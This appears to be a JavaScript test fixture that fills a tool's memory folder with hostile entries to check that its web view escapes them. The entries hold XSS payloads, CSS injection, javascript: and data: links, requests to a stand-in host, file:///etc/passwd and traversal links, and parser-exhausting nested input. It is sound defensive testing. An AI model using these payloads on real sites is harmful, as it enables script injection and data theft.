// A memory that somebody else wrote to break the page: entries and attempts whose every text tries to run a script, to change the page's look, to send
// something away or to exhaust the parser. The same 500 entries each time.
//
// What gets to run calls `__ran(…)`, which `browser.mjs` watches. What gets to style sets `--ran`. Whatever leaves goes to `elsewhere.invalid`.
import { execFileSync } from "node:child_process";
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { matter, replaceText, write } from "./memory.mjs";

const RUN = "__ran(1)";
const AWAY = "https://elsewhere.invalid/x";

/** What is put into every place: markup, addresses, and text that deceives. */
export const PAYLOADS = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}.js"></script>`,
  `<script type="module">import "${AWAY}.mjs"</script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</textarea></pre></code></p><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `<!--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<SCRIPT\n>${RUN}</SCRIPT\t>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${AWAY}.png">`,
  `<img srcset="${AWAY}.png 2x">`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" onfocus="${RUN}" autofocus tabindex="0" x="`,
  `' onmouseover='${RUN}' onfocus='${RUN}' autofocus x='`,
  "` onmouseover=`" + RUN + "`",
  `x onfocus=${RUN} autofocus`,
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:${RUN}'/></svg>#x"></svg>`,
  `<svg><style><!--</style><img src=x onerror=${RUN}>--></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">x</math>`,
  `<style>:root{--ran:1}*{display:none!important}</style>`,
  `<style>@import "${AWAY}.css";</style>`,
  `<link rel=stylesheet href="${AWAY}.css">`,
  `<link rel=preconnect href="${AWAY}"><link rel=dns-prefetch href="${AWAY}"><link rel=prefetch href="${AWAY}">`,
  `<div style="position:fixed;inset:0;background:url(${AWAY}.png)">over everything</div>`,
  `<base href="https://elsewhere.invalid/">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="${AWAY}.swf">`,
  `<video src="${AWAY}" onerror=${RUN} autoplay></video><audio src=x onerror=${RUN}>`,
  `<form action="${AWAY}"><button>Sign in</button><input name=token autofocus onfocus=${RUN}></form>`,
  `<button form=x formaction="${AWAY}" onclick=${RUN}>Archive</button>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<body onload=${RUN} onpageshow=${RUN}>`,
  `<input type=image src="${AWAY}.png" onerror=${RUN}>`,
  `<template><script>${RUN}</script></template><slot name=x></slot>`,
  `<portal src="${AWAY}"></portal><fencedframe></fencedframe>`,
  `<a href="javascript:${RUN}" ping="${AWAY}" target=_blank>click</a>`,
  `<a href="data:text/html,<script>${RUN}</script>" download>click</a>`,
  `[click](javascript:${RUN})`,
  `[click](JaVaScRiPt:${RUN})`,
  `[click](java\tscript:${RUN})`,
  `[click](&#106;avascript&colon;${RUN})`,
  `[click](%6Aavascript:${RUN})`,
  `[click](\u0001javascript:${RUN})`,
  `[click](vbscript:msgbox(1))`,
  `[click](data:text/html;base64,PHNjcmlwdD5fX3JhbigxKTwvc2NyaXB0Pg==)`,
  `[click](blob:${AWAY})`,
  `[click](file:///etc/passwd)`,
  `[click](//elsewhere.invalid/x)`,
  `[click](\\\\elsewhere.invalid\\x)`,
  `[click](https:elsewhere.invalid)`,
  `[click](http://127.0.0.1:1/archive?id=all)`,
  `[click](../../../../etc/passwd)`,
  `[click](x" onmouseover="${RUN})`,
  `[click](<x" onclick="${RUN}"> "t\\" onmouseover=\\"${RUN}")`,
  `[click][r]\n\n[r]: javascript:${RUN} "x"`,
  `<javascript:${RUN}> <data:text/html,x>`,
  `![x](${AWAY}.png)`,
  `![x](javascript:${RUN})`,
  `![x](data:image/svg+xml,<svg onload=${RUN}>)`,
  `![x" onerror="${RUN}](x.png)`,
  `[[knowledge/"><script>${RUN}</script>]] [[javascript:${RUN}]] [[../../config.toml]] [[knowledge/x|<img src=x onerror=${RUN}>]]`,
  "```<script>" + RUN + "</script>\n</code></pre><script>" + RUN + "</script>\n```",
  "```\" onmouseover=\"" + RUN + "\nx\n```",
  "`<img src=x onerror=" + RUN + ">`",
  `| <script>${RUN}</script> | b |\n|---|---|\n| <img src=x onerror=${RUN}> | \`|\` |`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}`,
  `\${${RUN}} {{constructor.constructor('${RUN}')()}} <%= ${RUN} %>`,
  "\u202Egnp.exe\u202C reversed \u2066isolated",
  "\u202E\u202E\u202E\u2067 never closed",
  "zero\u200Bwidth\u200D\uFEFFjoined\u00AD and \u{E0041}\u{E0042} tags",
  "\u0007bell \u001B[31mred\u001B]0;title\u0007 \u009B31m \u0085 \u2028 \u2029",
  "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307".repeat(40),
  "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u{1F3F4}\u{E0067}\u{E007F}".repeat(20),
  "عربي <b>and</b> עברית mixed with English",
  "x".repeat(3000),
  "a\u00A0".repeat(900),
  "+/v8- +ADw-script+AD4-" + RUN,
];

/** Bodies that are hard on a parser, most of them nested 10,000 deep. */
const DEEP = [
  "> ".repeat(10_000) + "end",
  "- ".repeat(10_000) + "end",
  "1. ".repeat(10_000) + "end",
  "[".repeat(10_000) + "end" + "](x)".repeat(10_000),
  "![".repeat(10_000) + "end" + "](x)".repeat(10_000),
  "*".repeat(10_000) + "end" + "*".repeat(10_000),
  "**a _b ".repeat(10_000),
  "<div>".repeat(10_000) + "end",
  "<b><i>".repeat(10_000),
  "`".repeat(10_000) + "end",
  "[[".repeat(10_000) + "end" + "]]".repeat(10_000),
  "(".repeat(10_000) + ")".repeat(10_000),
  `[a](b) `.repeat(10_000),
  "| a ".repeat(5_000) + "|\n" + "|---".repeat(5_000) + "|\n",
  "# ".repeat(10_000),
  "\n".repeat(10_000) + "end",
  "[a]: b\n".repeat(10_000),
  "&".repeat(10_000) + "&amp;".repeat(10_000),
  "<!--".repeat(10_000),
  "\\".repeat(10_001) + "<script>" + RUN + "</script>",
  "- a\n\n      b\n".repeat(2_000),
  "~~a~~ ".repeat(5_000),
  "[^1]".repeat(5_000) + "\n\n[^1]: [^1]",
];

const FIELDS = ["title", "tags", "category", "feature", "scope", "source", "questions", "files", "task_id", "run_id", "supersedes", "details", "body"];

/** Makes the memory in `folder`, and returns the ids of its entries. */
export function makeHostile(program, folder, env, now = Date.now()) {
  mkdirSync(folder, { recursive: true });
  execFileSync(program, ["--quiet", "init"], { cwd: folder, env, stdio: "pipe" });
  const ralph = join(folder, ".ralph");
  const made = [];
  const knowledge = (fields, body) => {
    const id = `hostile-${String(made.length).padStart(3, "0")}`;
    write(join(ralph, "knowledge", `${id}.md`), matter(Object.entries(fields), body));
    made.push(`knowledge/${id}`);
  };
  const stamp = (days) => new Date(now - days * 86_400_000).toISOString();
  for (const body of DEEP) {
    knowledge({ title: `Deep ${body.slice(0, 12).trim()}`, tags: ["deep"], created_at: stamp(2) }, body);
  }
  for (const payload of ["<script>" + RUN + "</script>", "\u202E", "<b>", "word ", "[[a]]"]) {
    knowledge({ title: payload.repeat(10_240 / payload.length), tags: ["long"], created_at: stamp(3) }, "A title of 10 KB.");
  }
  // Every payload in the body and in the title, and then in each other field in turn.
  for (let n = 0; made.length < 500; n += 1) {
    const payload = PAYLOADS[n % PAYLOADS.length];
    const round = Math.floor(n / PAYLOADS.length);
    const field = FIELDS[(n + round) % FIELDS.length];
    const fields = { title: `Hostile ${n}: ${round < 2 ? payload : field}`, tags: ["hostile"], created_at: stamp(n % 60) };
    if (field !== "body" && field !== "title") {
      fields[field] = ["tags", "questions", "files", "supersedes"].includes(field) ? [payload.slice(0, 400)] : field === "scope" ? `feature:${payload.slice(0, 400)}` : payload.slice(0, 400);
    }
    knowledge(fields, `Before. ${payload} After.\n\n${payload}\n\n- ${payload}\n\n> ${payload}`);
  }
  PAYLOADS.forEach((payload, n) => attempt(ralph, n, payload, stamp(n / 24)));
  // What cannot be read at all, with a name and a content that a list of problems shows.
  write(join(ralph, "knowledge", "<img src=x onerror=__ran(1)>.md"), `---\ntitle: [${PAYLOADS[0]}\n---\n${PAYLOADS[0]}\n`);
  // A name that HTML and addresses have to escape, and earlier texts of a hostile entry.
  write(join(ralph, "knowledge", `it's "a" & <b> #1?.md`), matter([["title", "An odd name"], ["tags", ["hostile"]], ["created_at", stamp(1)]], PAYLOADS[0]));
  for (const [n, payload] of PAYLOADS.slice(0, 6).entries()) {
    replaceText(program, folder, env, "hostile-earlier", matter([["title", `Earlier ${n}: ${payload}`], ["tags", ["old"]]], PAYLOADS[n + 10]));
  }
  return made;
}

function attempt(ralph, n, payload, time) {
  const quoted = payload.split("\n").map((line) => `> ${line}`).join("\n");
  const short = payload.slice(0, 400);
  const headings = ["What was tried", "Why it failed", "Error output", "Retry suggestion", "Decisions", "Validation output", "Feedback"];
  write(join(ralph, "journal", `run-${String(n).padStart(8, "0")}`, "0001.md"), matter([
    ["run_id", `run-${String(n).padStart(8, "0")}`],
    ["iteration", 1],
    ["task_id", `t-${n % 20}`],
    ["task_title", short],
    ["feature", short],
    ["section", short],
    ["outcome", ["failed", "done", "blocked"][n % 3]],
    ["error_category", short],
    ["model", short],
    ["model_rationale", short],
    ["started_at", time],
    ["files", { modified: [short], read: [short] }],
    ["validation", { command: short, exit_code: 1, duration_ms: 10 }],
    ["context", ["knowledge/hostile-030", short]],
  ], [quoted, ...headings.map((heading) => `## ${heading}\n\n${quoted}`)].join("\n\n")));
}
